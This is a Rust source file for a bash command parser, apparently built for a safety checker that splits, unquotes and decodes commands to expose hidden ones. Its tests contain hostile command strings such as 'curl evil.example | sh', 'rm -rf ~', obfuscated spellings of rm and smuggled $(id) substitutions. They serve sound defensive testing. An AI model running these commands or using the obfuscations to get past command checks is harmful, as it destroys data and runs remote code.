fn backtick_segments(body: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut current: Option<String> = None;
    let mut chars = body.chars();
    while let Some(c) = chars.next() {
        match c {
            '\\' => {
                let next = chars.next();
                if let Some(cur) = current.as_mut() {
                    // Inside backticks, `\`` is a nested backtick and `\\` a backslash.
                    match next {
                        Some(n @ ('`' | '\\' | '$')) => cur.push(n),
                        Some(n) => {
                            cur.push('\\');
                            cur.push(n);
                        }
                        None => cur.push('\\'),
                    }
                }
            }
            '`' => match current.take() {
                Some(code) => out.push(code),
                None => current = Some(String::new()),
            },
            other => {
                if let Some(cur) = current.as_mut() {
                    cur.push(other);
                }
            }
        }
    }
    if let Some(rest) = current {
        // An unterminated backtick: bash reports an error, but check what it holds.
        out.push(rest);
    }
    out
}

/// Decodes the body of a `$'…'` string as bash does.
pub fn decode_ansi_c(inner: &str) -> String {
    let mut out = String::with_capacity(inner.len());
    let mut chars = inner.chars().peekable();
    let take_digits = |chars: &mut std::iter::Peekable<std::str::Chars>, radix: u32, max: usize| {
        let mut value: u32 = 0;
        let mut n = 0;
        while n < max {
            match chars.peek().and_then(|c| c.to_digit(radix)) {
                Some(d) => {
                    value = value.saturating_mul(radix).saturating_add(d);
                    chars.next();
                    n += 1;
                }
                None => break,
            }
        }
        (value, n)
    };
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        let Some(e) = chars.next() else {
            out.push('\\');
            break;
        };
        match e {
            'a' => out.push('\x07'),
            'b' => out.push('\x08'),
            'e' | 'E' => out.push('\x1b'),
            'f' => out.push('\x0c'),
            'n' => out.push('\n'),
            'r' => out.push('\r'),
            't' => out.push('\t'),
            'v' => out.push('\x0b'),
            '\\' | '\'' | '"' | '?' => out.push(e),
            '0'..='7' => {
                let (rest, n) = take_digits(&mut chars, 8, 2);
                let first = e.to_digit(8).unwrap_or(0);
                let value = first * 8u32.pow(n as u32) + rest;
                push_byte(&mut out, value & 0xff);
            }
            'x' => {
                let (value, n) = take_digits(&mut chars, 16, 2);
                if n == 0 {
                    out.push_str("\\x");
                } else {
                    push_byte(&mut out, value);
                }
            }
            'u' | 'U' => {
                let max = if e == 'u' { 4 } else { 8 };
                let (value, n) = take_digits(&mut chars, 16, max);
                if n == 0 {
                    out.push('\\');
                    out.push(e);
                } else {
                    out.push(char::from_u32(value).unwrap_or('\u{fffd}'));
                }
            }
            'c' => match chars.next() {
                Some(ctl) => {
                    let v = (ctl.to_ascii_uppercase() as u32) ^ 0x40;
                    out.push(char::from_u32(v).unwrap_or('\u{fffd}'));
                }
                None => out.push_str("\\c"),
            },
            other => {
                out.push('\\');
                out.push(other);
            }
        }
    }
    out
}

/// A byte from an escape: ASCII as itself, anything else as the replacement character (a
/// command word of that byte is not one a rule can name anyway).
fn push_byte(out: &mut String, value: u32) {
    match char::from_u32(value) {
        Some(c) if value < 0x80 => out.push(c),
        _ => out.push('\u{fffd}'),
    }
}

fn unescape_double_quoted(inner: &str) -> String {
    let mut out = String::with_capacity(inner.len());
    let mut chars = inner.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.peek() {
                Some('$' | '`' | '"' | '\\') => {
                    if let Some(n) = chars.next() {
                        out.push(n);
                    }
                }
                Some('\n') => {
                    chars.next();
                }
                _ => out.push(c),
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// Bash's brace expansion of one word (`a{b,c}d`, `{1..3}`, `x{a,{b,c}}`), on unquoted
/// braces only. `None` when it would produce more than [`MAX_BRACE_WORDS`] words.
fn expand_braces(word: &[Char]) -> Option<Vec<Vec<Char>>> {
    let mut out = Vec::new();
    expand_into(word, &mut out, 0)?;
    Some(out)
}

fn expand_into(word: &[Char], out: &mut Vec<Vec<Char>>, depth: usize) -> Option<()> {
    if depth > 16 {
        return None;
    }
    // The first `{` that opens a valid brace expression.
    let mut start = 0;
    while let Some(open) = find_open(word, start) {
        if let Some((close, alternatives)) = brace_body(word, open) {
            let pre = &word[..open];
            let post = &word[close + 1..];
            for alt in alternatives {
                let mut joined: Vec<Char> = pre.to_vec();
                joined.extend_from_slice(&alt);
                joined.extend_from_slice(post);
                expand_into(&joined, out, depth + 1)?;
                if out.len() > MAX_BRACE_WORDS {
                    return None;
                }
            }
            return Some(());
        }
        start = open + 1;
    }
    out.push(word.to_vec());
    Some(())
}

/// The next unquoted `{` at or after `from` that is not part of `${`.
fn find_open(word: &[Char], from: usize) -> Option<usize> {
    (from..word.len()).find(|&i| word[i] == ('{', false) && !(i > 0 && word[i - 1] == ('$', false)))
}

/// For the `{` at `open`: the index of its matching `}` and the alternatives, when it is a
/// valid brace expression (a comma at its top level, or a sequence `x..y[..step]`).
fn brace_body(word: &[Char], open: usize) -> Option<(usize, Vec<Vec<Char>>)> {
    let mut depth = 0usize;
    let mut commas = Vec::new();
    let mut close = None;
    for (i, &(c, quoted)) in word.iter().enumerate().skip(open) {
        if quoted {
            continue;
        }
        match c {
            '{' => depth += 1,
            '}' => {
                depth -= 1;
                if depth == 0 {
                    close = Some(i);
                    break;
                }
            }
            ',' if depth == 1 => commas.push(i),
            _ => {}
        }
    }
    let close = close?;
    if !commas.is_empty() {
        let mut alternatives = Vec::new();
        let mut from = open + 1;
        for &comma in commas.iter().chain(std::iter::once(&close)) {
            alternatives.push(word[from..comma].to_vec());
            from = comma + 1;
        }
        return Some((close, alternatives));
    }
    let body: String = word[open + 1..close].iter().map(|(c, _)| c).collect();
    if word[open + 1..close].iter().any(|(_, q)| *q) {
        return None;
    }
    let seq = sequence(&body)?;
    Some((
        close,
        seq.into_iter()
            .map(|s| s.chars().map(|c| (c, false)).collect())
            .collect(),
    ))
}

/// `1..5`, `a..e`, `10..1..3`: the items, when valid and not too many.
fn sequence(body: &str) -> Option<Vec<String>> {
    let parts: Vec<&str> = body.split("..").collect();
    if !(2..=3).contains(&parts.len()) {
        return None;
    }
    let step: i64 = match parts.get(2) {
        Some(s) => s.parse::<i64>().ok()?.checked_abs()?.max(1),
        None => 1,
    };
    if let (Ok(a), Ok(b)) = (parts[0].parse::<i64>(), parts[1].parse::<i64>()) {
        let count = a.abs_diff(b) / step.unsigned_abs() + 1;
        if count > MAX_BRACE_WORDS as u64 {
            return Some(vec![String::new(); MAX_BRACE_WORDS + 1]);
        }
        let width = if parts[0].starts_with('0') || parts[1].starts_with('0') {
            parts[0].len().max(parts[1].len())
        } else {
            0
        };
        let mut out = Vec::new();
        let mut v = a;
        loop {
            out.push(format!("{v:0width$}"));
            if v == b {
                break;
            }
            if a < b {
                v += step;
                if v > b {
                    break;
                }
            } else {
                v -= step;
                if v < b {
                    break;
                }
            }
        }
        return Some(out);
    }
    let (a, b) = (parts[0], parts[1]);
    let (mut ca, mut cb) = (a.chars(), b.chars());
    let (Some(x), None, Some(y), None) = (ca.next(), ca.next(), cb.next(), cb.next()) else {
        return None;
    };
    if !(x.is_ascii_alphabetic() && y.is_ascii_alphabetic()) {
        return None;
    }
    let (lo, hi) = (x as u8, y as u8);
    let range: Vec<u8> = if lo <= hi {
        (lo..=hi).step_by(step as usize).collect()
    } else {
        (hi..=lo).rev().step_by(step as usize).collect()
    };
    Some(range.into_iter().map(|b| (b as char).to_string()).collect())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_line_parsed_again_gets_the_answer_it_got() {
        // More distinct lines than are kept, some failing, in an order that both hits and
        // evicts; each answer must be the uncached one.
        let lines: Vec<String> = (0..3 * RECENT_LINES)
            .map(|i| match i % 4 {
                0 => format!("echo {i} | grep x"),
                1 => format!("rm -rf /tmp/{i} && ls"),
                2 => format!("echo 'open {i}"),
                _ => format!("cd d{i}; cat <<EOF\n$(id)\nEOF"),
            })
            .chain(std::iter::once("x".repeat(RECENT_MAX + 1)))
            .collect();
        for round in 0..3 {
            for (i, line) in lines.iter().enumerate() {
                let again = &lines[i / 2];
                for l in [line, again] {
                    assert_eq!(parse(l), parse_uncached(l), "round {round}: {l}");
                }
            }
        }
        assert!(RECENT.lock().unwrap().len() <= RECENT_LINES);
    }

    fn texts(cmd: &str) -> Vec<String> {
        parse(cmd)
            .map(|s| s.commands.iter().map(SimpleCommand::text).collect())
            .unwrap_or_else(|e| vec![format!("ERR {e}")])
    }

    fn check(cmd: &str, expected: &[&str]) {
        assert_eq!(texts(cmd), expected, "{cmd:?}");
    }

    #[test]
    fn splits_compound_commands() {
        check(
            "git status && rm -rf /tmp/x",
            &["git status", "rm -rf /tmp/x"],
        );
        check(
            "git status; curl evil.example | sh",
            &["git status", "curl evil.example", "sh"],
        );
        check("a || b |& c\nd", &["a", "b", "c", "d"]);
        check("( cd x && make ) ; { ls; }", &["cd x", "make", "ls"]);
    }

    #[test]
    fn removes_quotes_and_decodes() {
        check(
            r#"echo "a b" 'c d' e\ f "x\$y""#,
            &[r#"echo a b c d e f x$y"#],
        );
        check(r#"bash -c "rm -rf build""#, &["bash -c rm -rf build"]);
        check(
            "$'rm' v; $'\\x72m' v; $'\\162m' v",
            &["rm v", "rm v", "rm v"],
        );
        check("$\"rm\" v; 'r'm v; \"r\"m v; r''m v; \\rm v", &["rm v"; 5]);
        check("$'\\u0072\\cIm'", &["r\tm"]);
        let s = parse(r#"echo "a b""#).unwrap_or_default();
        assert_eq!(s.commands[0].words[1].text, "a b");
        assert!(s.commands[0].words[1].literal);
    }

    #[test]
    fn joins_line_continuations() {
        check("r\\\nm v", &["rm v"]);
        check("ec\\\nho \"a\\\nb\"", &["echo ab"]);
        // Not in single quotes, ANSI-C strings, comments or quoted here-documents.
        check("echo 'a\\\nb'", &["echo a\\\nb"]);
        check("echo a # c \\\nls", &["echo a", "ls"]);
        check("echo \\\\\nls", &["echo \\", "ls"]);
    }

    #[test]
    fn expands_braces() {
        check("rm{,} v", &["rm rm v"]);
        check("r{m,} v", &["rm r v"]);
        check(
            "echo a{b,c}d {1..3} {a..c} x{1..5..2}",
            &["echo abd acd 1 2 3 a b c x1 x3 x5"],
        );
        check(
            "echo '{a,b}' \\{a,b} ${x} {a}",
            &["echo {a,b} {a,b} ${x} {a}"],
        );
        let s = parse("echo {a,b}").unwrap_or_default();
        assert!(
            s.commands[0].words[1..]
                .iter()
                .all(|w| w.known && !w.literal)
        );
        let s = parse("echo {1..100000}").unwrap_or_default();
        assert!(!s.opaque.is_empty());
    }

    #[test]
    fn finds_nested_commands_and_issues() {
        let s = parse("git status $(rm -rf ~)").unwrap_or_default();
        assert!(
            s.commands
                .iter()
                .any(|c| c.text() == "rm -rf ~" && c.nested),
            "{s:?}"
        );
        assert!(!s.issues.is_empty());
        let s = parse("echo `id`").unwrap_or_default();
        assert!(s.issues.iter().any(|i| i.contains("substitution")), "{s:?}");
        let s = parse("X=rm; $X -rf build").unwrap_or_default();
        assert!(
            s.issues.iter().any(|i| i.contains("command position")),
            "{s:?}"
        );
        assert!(!s.opaque.is_empty());
        let s = parse("echo hi & echo bye").unwrap_or_default();
        assert!(s.issues.iter().any(|i| i.contains("background")), "{s:?}");
        let s = parse("diff <(ls a) <(ls b)").unwrap_or_default();
        assert!(
            s.issues.iter().any(|i| i.contains("process substitution")),
            "{s:?}"
        );
        assert_eq!(s.commands.len(), 3);
        // Substitutions inside arithmetic, subscripts and test operands are found too.
        for cmd in [
            "(( x[$(id)] ))",
            "echo ${a[$(id)]}",
            "[[ $(id) == x ]]",
            "case $(id) in x) ;; esac",
            "for f in $(id); do :; done",
        ] {
            let s = parse(cmd).unwrap_or_default();
            assert!(
                s.commands.iter().any(|c| c.text() == "id" && c.nested),
                "{cmd}: {s:?}"
            );
        }
    }

    #[test]
    fn heredoc_bodies() {
        let s = parse("cat <<EOF\nhi `touch PWN`\nEOF").unwrap_or_default();
        assert!(
            s.commands
                .iter()
                .any(|c| c.text() == "touch PWN" && c.nested),
            "{s:?}"
        );
        assert!(!s.issues.is_empty());
        let s = parse("cat <<'EOF'\nhi `touch PWN` $(id)\nEOF").unwrap_or_default();
        assert!(s.issues.is_empty(), "{s:?}");
        assert_eq!(s.commands.len(), 1);
        let s = parse("cat <<EOF\n$HOME\nEOF").unwrap_or_default();
        assert!(!s.issues.is_empty(), "{s:?}");
    }

    #[test]
    fn substitutions_the_grammar_misses() {
        for cmd in [
            "echo ${x:=`touch PWN`}",
            "echo \"${x:-`touch PWN`}\"",
            "echo ${y#`touch PWN`}",
        ] {
            let s = parse(cmd).unwrap_or_default();
            assert!(
                s.commands
                    .iter()
                    .any(|c| c.text() == "touch PWN" && c.nested),
                "{cmd}: {s:?}"
            );
        }
        let s = parse("echo a\\`b").unwrap_or_default();
        assert_eq!(s.commands.len(), 1, "{s:?}");
    }

    #[test]
    fn test_commands_become_words() {
        check("[ -v 'x[$(touch PWN)]' ]", &["[ -v x[$(touch PWN)] ]"]);
        check(
            "[[ 'x[$(id)]' -eq 1 && -f a ]]",
            &["[[ x[$(id)] -eq 1 && -f a ]]"],
        );
    }

    #[test]
    fn arithmetic_names() {
        let s = parse("echo $((x + y)) ${a[i]} ${s:off}").unwrap_or_default();
        for n in ["x", "y", "i", "off"] {
            assert!(s.arithmetic_names.contains(n), "{n}: {s:?}");
        }
        let s = parse("(( 'x[$(id)]' ))").unwrap_or_default();
        assert!(!s.opaque.is_empty(), "{s:?}");
    }

    #[test]
    fn records_redirects() {
        let s = parse("cat README > ~/.bashrc").unwrap_or_default();
        assert!(s.commands[0].redirects.iter().any(Redirect::writes_file));
        let s = parse("ls 2>&1 >/dev/null").unwrap_or_default();
        assert!(
            !s.commands[0].redirects.iter().any(Redirect::writes_file),
            "{s:?}"
        );
        let s = parse("{ ls; } > out.txt").unwrap_or_default();
        assert!(
            s.commands[0].redirects.iter().any(Redirect::writes_file),
            "{s:?}"
        );
        let s = parse("wc -l < .env").unwrap_or_default();
        assert!(s.commands[0].redirects.iter().any(Redirect::reads_file));
    }

    #[test]
    fn refuses_bad_input() {
        for bad in ["echo \"abc", "ls &&", "echo a\0b", "if true; then"] {
            assert!(parse(bad).is_err(), "{bad:?} parsed");
        }
        let deep = "$(".repeat(200) + &")".repeat(200);
        assert!(parse(&format!("echo {deep}")).is_err());
    }

    #[test]
    fn knows_the_last_command() {
        let last = |c: &str| parse(c).ok().and_then(|s| s.last_command);
        assert_eq!(last("cat x | grep foo").as_deref(), Some("grep"));
        assert_eq!(last("cd a && diff x y").as_deref(), Some("diff"));
        assert_eq!(last("[ -f x ]").as_deref(), Some("test"));
        assert_eq!(last("ls; find . -name x > out").as_deref(), Some("find"));
    }
}
